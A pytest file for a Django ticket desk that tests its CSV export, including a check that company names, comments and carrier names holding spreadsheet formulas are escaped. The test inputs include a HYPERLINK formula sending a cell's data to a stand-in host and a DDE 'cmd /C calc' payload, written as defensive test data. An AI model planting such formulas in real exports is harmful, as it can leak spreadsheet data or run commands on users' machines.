"""CSV of a list: complete, constant in memory, and harmless in a spreadsheet."""

import csv
import gzip
from collections.abc import Callable
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from companies.models import Company
from desk.queue import export
from tests import builders as build
from tickets import roles
from tickets.models import Agent, Ticket

EXPORT = "/admin/tickets/ticket/export/"
COLUMNS = [
    "ticket",
    "company",
    "type",
    "status",
    "carrier",
    "tracking number",
    "shipment",
    "agent",
    "decided by",
    "reason code",
    "claimed",
    "offered",
    "paid",
    "currency",
    "opened",
    "updated",
    "first response",
    "due",
    "claim deadline",
    "decided",
    "text",
    "Carrier ID",
    "Credit ID",
    "Package",
]


@pytest.fixture
def lead(db: None) -> Client:
    cache.clear()
    client = Client()
    client.force_login(build.agent("eve", group="lead").user)
    return client


def exported(client: Client, **query: Any) -> list[dict[str, str]]:
    answer = client.get(EXPORT, {"queue": "everything", **query})
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    text = answer.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))


def test_holds_the_tickets_of_the_list(lead: Client, company: Company, agent: Agent) -> None:
    decided = build.ticket(company, status=2, comments='He said: "late",\nagain.')
    mine = build.ticket(company, agent=agent, status=6, carrier_name="swift", shipment_id=7)

    both = exported(lead)
    assert [row["ticket"] for row in both] == [str(mine.pk), str(decided.pk)]
    assert both[1]["text"] == decided.comments
    assert {name: value for name, value in both[0].items() if value and "(UTC)" not in name} == {
        "ticket": str(mine.pk),
        "company": "Acme",
        "type": mine.type.name,
        "status": "In review",
        "carrier": "swift",
        "shipment": "7",
        "agent": "ada",
    }
    assert [row["ticket"] for row in exported(lead, queue="open")] == [str(mine.pk)]
    assert [row["ticket"] for row in exported(lead, status="2")] == [str(decided.pk)]
    assert [row["ticket"] for row in exported(lead, q="late")] == [str(decided.pk)]


def test_existing_columns_keep_their_places(lead: Client, company: Company) -> None:
    """Keep the order of columns: spreadsheets refer to them by position."""
    build.ticket(company)

    (row,) = exported(lead)

    assert [name.removesuffix(" (UTC)") for name in row] == COLUMNS, (
        "put new columns at the end, also of COLUMNS: spreadsheets go by the place of a column"
    )


# Text of a company and the cell that it becomes.
FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Open")': (
        '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    # With the tab as separator, the second cell begins after it.
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    "  =1": "'  =1",
    "Hola;=1+1;adios": "Hola;'=1+1;adios",
    "a;@SUM(A1)|=2\t+3": "a;'@SUM(A1)|'=2\t'+3",
    "a; \u00a0-1": "a;' \u00a0-1",
    '=1+1"': "'=1+1\"",
    "\uff1d1": "'\uff1d1",
}


def test_formulas_of_companies_are_escaped(lead: Client) -> None:
    for evil in FORMULAS:
        build.ticket(build.company(name=evil), comments=evil, carrier_name=evil)

    rows = exported(lead)

    cells = [(row["company"], row["text"], row["carrier"]) for row in reversed(rows)]
    assert cells == [(cell,) * 3 for cell in FORMULAS.values()]


def test_leaves_other_text_alone(lead: Client, company: Company) -> None:
    for text in ("It's 5 - 3 = 2", "Ünïcode ✓", "'quoted", "12-3", "a\u2028b", "a\rb\r\nc\x85d"):
        Ticket.objects.all().delete()
        build.ticket(company, comments=text)
        assert exported(lead)[0]["text"] == text


def test_reads_a_thousand_tickets_at_a_time(
    lead: Client, company: Company, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "AT_ONCE", 2)
    pks = [build.ticket(company).pk for _ in range(5)][::-1]

    tickets = Ticket.objects.select_related("company", "type", "agent__user")
    lines = (str(ticket.pk) for ticket in export.one_by_one(tickets))
    with CaptureQueriesContext(connection) as captured:
        assert len(captured) == 0
        for pk, queries in zip(pks, (1, 1, 2, 2, 3), strict=True):
            assert next(lines) == str(pk)
            assert len(captured) == queries
        assert list(lines) == []
    assert all("LIMIT 2" in query["sql"] for query in captured.captured_queries)


def test_query_count_is_independent_of_the_number_of_companies(
    lead: Client, django_assert_num_queries: Callable[..., Any]
) -> None:
    for number in range(12):
        build.ticket(build.company(f"Company {number}"), agent=build.agent(f"agent-{number}"))
    exported(lead)

    # Queries: up to eight of the list, the reasons, a page of tickets, and its end.
    with django_assert_num_queries(10):
        assert len(exported(lead)) == 12


def test_is_for_leads_and_auditors(client: Client, desk: Client, company: Company) -> None:
    build.ticket(company)
    assert desk.get(EXPORT).status_code == 403

    auditor = User.objects.create_user("rex", is_staff=True)
    auditor.groups.add(roles.group("auditor"))
    client.force_login(auditor)
    assert len(exported(client)) == 1
    assert "export/" in client.get("/admin/tickets/ticket/").content.decode()
    assert "export/" not in desk.get("/admin/tickets/ticket/").content.decode()


def test_goes_out_compressed_as_every_page_of_the_desk(lead: Client, company: Company) -> None:
    build.ticket(company, comments="late " * 500)
    takes = {"HTTP_ACCEPT_ENCODING": "gzip"}

    file = lead.get(EXPORT, {"queue": "everything"}, **takes)
    page = lead.get("/admin/tickets/ticket/", **takes)
    assert file["Content-Encoding"] == page["Content-Encoding"] == "gzip"
    assert b"late late" in gzip.decompress(file.getvalue())
    assert len(page.content) < 40_000
